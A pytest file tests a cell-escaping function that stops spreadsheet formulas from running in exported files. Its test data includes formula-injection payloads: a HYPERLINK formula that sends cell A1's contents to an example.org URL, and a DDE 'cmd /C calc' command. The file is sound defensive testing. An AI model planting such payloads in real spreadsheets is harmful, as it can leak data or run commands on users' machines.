"""Cells that no spreadsheet executes; what they say stays readable, and numbers stay numbers."""

from __future__ import annotations

import pytest

from stampbook.files.cells import cell, text_of

FORMULAS = [
    '=HYPERLINK("http://example.org?x="&A1,"click")', "=1", "'=1", "+1", "-1+cmd|'/C calc'!A1",
    "@SUM(A1)",
    "\t=1", "\r=1", "\n=1", "-", "--1", "-1e5", "-.5", "- 5", "\uff1d1", "\uff0b1", "\uff20A1",
]  # fmt: skip
PLAIN = [
    "", "a", " =1", "1", "12.50", "-1", "-12.50", "-0.01", "a=b", "x@example.org", "'a", "''", "{}",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_a_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_everything_else_is_itself(text: str) -> None:
    assert cell(text) == text


def test_what_is_no_text() -> None:
    assert [cell(value) for value in (None, -5, 0, 7)] == ["", "-5", "0", "7"]


@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
def test_the_text_comes_back(text: str) -> None:
    assert text_of(cell(text)) == text
